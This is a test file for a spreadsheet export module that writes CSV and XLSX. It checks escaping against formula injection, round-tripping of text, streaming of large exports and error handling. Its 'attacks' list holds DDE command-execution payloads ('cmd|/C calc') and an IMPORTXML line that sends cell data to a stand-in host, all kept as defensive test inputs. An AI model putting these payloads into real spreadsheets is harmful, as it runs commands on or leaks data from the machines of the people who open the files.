import Papa from 'papaparse'
import { expect, test } from 'vitest'
import * as XLSX from 'xlsx'
import { unharmed } from './harmless-cell.ts'
import { type Cell, csvOf, type Sheet } from './sheet.ts'
import { xlsxOf } from './sheet-xlsx.ts'

const columns = [
  { title: 'Name', type: 'text' },
  { title: 'Count', type: 'number' },
  { title: 'Due', type: 'day' },
] as const

const sheet = (rows: Sheet['rows'], name = 'Projects'): Sheet => ({ name, columns, rows })
async function all<T>(parts: AsyncIterable<T>): Promise<T[]> {
  const found: T[] = []
  for await (const part of parts) found.push(part)
  return found
}
const csv = async (given: Sheet) => (await all(csvOf(given))).join('')
const parsed = async (given: Sheet) =>
  Papa.parse<string[]>(await csv(given), { skipEmptyLines: true }).data
async function book(given: Sheet) {
  const parts: Uint8Array[] = []
  for await (const part of xlsxOf(given)) parts.push(part)
  return XLSX.read(Buffer.concat(parts), { cellNF: true, cellFormula: true })
}
async function cells(given: Sheet) {
  const { Sheets, SheetNames } = await book(given)
  return Sheets[SheetNames[0] ?? ''] ?? {}
}
const cellAt = (found: XLSX.WorkSheet, place: string): XLSX.CellObject | undefined => found[place]

/** Known attacks on spreadsheets, and harmless texts that look similar. */
const attacks = [
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '\t=1',
  '\r=1',
  ' =HYPERLINK("http://x","y")',
  '\u00A0=1',
  '＝1+1',
  '＋A1',
  '－A1',
  '＠A1',
  '=IMPORTXML(CONCAT("http://x",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '"=1"',
  '-A1',
  '+A1',
]
const honest = [
  'Front Street, "Tower" B',
  'two\nlines',
  'two\r\nlines',
  ' spaces ',
  'Ángel Núñez',
  '工事 👷',
  '<b>&amp;</b>',
  '_x000D_',
  "O'Neil",
  '0012',
  'TRUE',
  '1e5',
  ';',
  '',
  '=',
]
const figures = ['+1 512 555 0142', '(512) 555-0142', '-12.5', '+49 30/123456', '-1,200.00']

test('writes CSV with a UTF-8 mark, a header and standard line ends', async () => {
  expect(
    await csv(
      sheet([
        ['Tower', 3, '2026-12-01'],
        ['Depot', -2.5, ''],
      ]),
    ),
  ).toBe('\uFEFFName,Count,Due\r\nTower,3,2026-12-01\r\nDepot,-2.5,\r\n')
})

test('CSV reads back as written for any text', async () => {
  const rows = honest.filter((text) => text !== '=').map((text): Cell[] => [text, 1, '2026-12-01'])
  expect((await parsed(sheet(rows))).slice(1)).toEqual(rows.map((row) => row.map(String)))
})

test.each(attacks.filter((text) => text !== '"=1"'))(
  'no text in CSV is a formula: %j',
  async (text) => {
    const [, row] = await parsed(sheet([[text, 1, '']]))
    expect([row?.[0]?.replaceAll(/([\t\r])'/g, '$1'), unharmed(row?.[0] ?? '')]).toEqual([
      `'${text}`,
      text,
    ])
  },
)

test('reads written text back, even if it looks like our own escape', async () => {
  const texts = [
    ...attacks,
    ...honest,
    ...figures,
    ...attacks.map((text) => `'${text}`),
    ...attacks.map((text) => `''${text}`),
    "'",
    "''",
    "'quoted'",
    "'-12.5",
  ]
  const read = (await parsed(sheet(texts.map((text) => [text, 1, '']))))
    .slice(1)
    .map(([text = '']) => unharmed(text))
  expect(read).toEqual(texts)
})

/** Texts that contain a formula only for a reader with another separator than the comma. */
const split = [
  'x;=1+1',
  'x\t=1+1',
  'x|@SUM(1,1)',
  'x; +1+cmd',
  'x;"=1+1;y',
  'x;\u00A0-2+3',
  'x\n=1+1',
  'x\r\n=1+1',
  ';;=1',
  ';\n=1',
  'x;＝1',
  "x;'=1",
  "x;''=1",
  'x|"\t\n-1',
  '=1;=2',
  "'=1;'=2",
  '\n=1',
  'x;-5',
  '+1\t-2',
  'x;',
  'a;b',
  'x;"',
  'x;""',
]

test.each([',', ';', '\t', '|'])(
  'a reader with the delimiter %j finds no formula in our CSV',
  async (delimiter) => {
    const rows = [...split, ...attacks, ...honest, ...figures].flatMap((text): Cell[][] => [
      [text, "1+cmd|' /C calc'!A0", ''],
      ['a', text, text],
      [-5, "1+cmd|' /C calc'!A0", text],
    ])
    const written = (await csv(sheet(rows))).slice(1)
    const cells = Papa.parse<string[]>(written, { delimiter }).data.flat()
    const isFigure = (text: string) => /^[+-]?[\d\s().,/-]+$/.test(text)
    expect(cells.filter((text) => /^\s*[=+\-@＝＋－＠]/.test(text) && !isFigure(text))).toEqual([])
  },
)

test('reads text with a formula behind another delimiter back as written', async () => {
  const read = (await parsed(sheet(split.map((text) => ['a', 1, text]))))
    .slice(1)
    .map(([, , text = '']) => unharmed(text))
  expect(read).toEqual(split)
  const first = (await parsed(sheet(figures.map((text) => [text, 1, '']))))
    .slice(1)
    .map(([text = '']) => unharmed(text))
  expect(first).toEqual(figures)
})

test('escapes a long text of line ends in linear time', async () => {
  const text = `${'\n\t'.repeat(50_000)}x`
  expect(unharmed((await parsed(sheet([['a', 1, text]])))[1]?.[2] ?? '')).toBe(text)
})

test.each(attacks.filter((text) => text !== '"=1"').map((text) => `'${text}`))(
  'a text that looks already escaped gets its own escape: %j',
  async (text) => {
    const [, row] = await parsed(sheet([[text, 1, '']]))
    expect([row?.[0]?.replaceAll(/([\t\r])'/g, '$1'), unharmed(row?.[0] ?? '')]).toEqual([
      `'${text}`,
      text,
    ])
  },
)

test('a title is no formula either, and a quoted one is text already', async () => {
  const titled = await csv({
    name: '',
    columns: [
      { title: '=1+1', type: 'text' },
      { title: '"=1"', type: 'text' },
    ],
    rows: [],
  })
  expect(titled).toBe(`\uFEFF'=1+1,"""=1"""\r\n`)
})

test.each(figures)('a telephone number or an amount stays unchanged: %s', async (text) => {
  expect((await parsed(sheet([['a', -7, text]])))[1]).toEqual(['a', '-7', text])
})

test('a workbook has real numbers and days, texts as text, and no formula', async () => {
  const found = await cells(
    sheet([
      ['Tower', -2.5, '2026-12-01'],
      ['', '', ''],
      ['Old', 0, '1899-12-31'],
      ['x', Number.NaN, 'soon'],
    ]),
  )
  expect(
    ['A1', 'B1', 'C1', 'A2', 'B2', 'C2'].map((place) => [
      cellAt(found, place)?.t,
      cellAt(found, place)?.v,
    ]),
  ).toEqual([
    ['s', 'Name'],
    ['s', 'Count'],
    ['s', 'Due'],
    ['s', 'Tower'],
    ['n', -2.5],
    ['n', 46_357],
  ])
  expect(cellAt(found, 'C2')?.w).toBe('2026-12-01')
  // An empty value makes no cell. A value that no spreadsheet can count stays text.
  expect(['A3', 'B3', 'C3', 'B5'].map((place) => cellAt(found, place)?.v)).toEqual([
    undefined,
    undefined,
    undefined,
    undefined,
  ])
  expect([cellAt(found, 'C4')?.v, cellAt(found, 'C5')?.v]).toEqual(['1899-12-31', 'soon'])
})

test.each([...attacks, ...honest.filter((text) => text !== ''), ...figures])(
  'a workbook text reads back as the same text: %j',
  async (text) => {
    const cell = cellAt(await cells(sheet([[text, 1, text]])), 'A2')
    expect([cell?.t, cell?.v, cell?.f]).toEqual(['s', text.replaceAll('\r\n', '\n'), undefined])
  },
)

test('characters invalid in XML and overlong text do not break the workbook', async () => {
  const found = await cells(
    sheet([
      ['a\u0000b\u0008c\uFFFEd\uD800e', 1, ''],
      ['x'.repeat(40_000), 1, ''],
    ]),
  )
  expect(cellAt(found, 'A2')?.v).toBe('abcd\uFFFDe')
  expect(String(cellAt(found, 'A3')?.v)).toHaveLength(32_767)
})

test.each([
  ['Jobs: failed/waiting [all]', 'Jobs  failed waiting  all'],
  ['x'.repeat(60), 'x'.repeat(31)],
  ["'", 'Sheet'],
])('a sheet gets a name that spreadsheets accept: %s', async (name, expected) => {
  expect((await book(sheet([], name))).SheetNames).toEqual([expected])
})

test('writes a hundred thousand rows piece by piece', async () => {
  function* many(): Generator<Cell[]> {
    for (let n = 0; n < 100_000; n += 1) yield [`Row ${n}`, n, '2026-12-01']
  }
  let [pieces, largest] = [0, 0]
  for await (const part of xlsxOf(sheet(many()))) {
    pieces += 1
    largest = Math.max(largest, part.length)
  }
  expect(pieces).toBeGreaterThan(20)
  expect(largest).toBeLessThan(1_000_000)
  const last = (await parsed(sheet(many()))).at(-1)
  expect(last).toEqual(['Row 99999', '99999', '2026-12-01'])
})

const files = [
  ['CSV', csvOf],
  ['a workbook', xlsxOf],
] as const

test.each(files)('a reader that stops early ends the source of %s too', async (_name, write) => {
  let [read, isEnded] = [0, false]
  async function* endless(): AsyncGenerator<Cell[]> {
    try {
      for (;;) yield [`Row ${(read += 1)}`, read * 0.618, '']
    } finally {
      isEnded = true
    }
  }
  for await (const _part of write(sheet(endless()))) if (read > 5000) break
  await expect.poll(() => isEnded).toBe(true)
  expect(read).toBeLessThan(100_000)
})

test.each(files)(
  'failing rows make %s fail, so that it never looks complete',
  async (_name, write) => {
    async function* broken(): AsyncGenerator<Cell[]> {
      yield ['Tower', 1, '']
      throw new Error('The database failed.')
    }
    await expect(all<unknown>(write(sheet(broken())))).rejects.toThrow('The database failed.')
  },
)
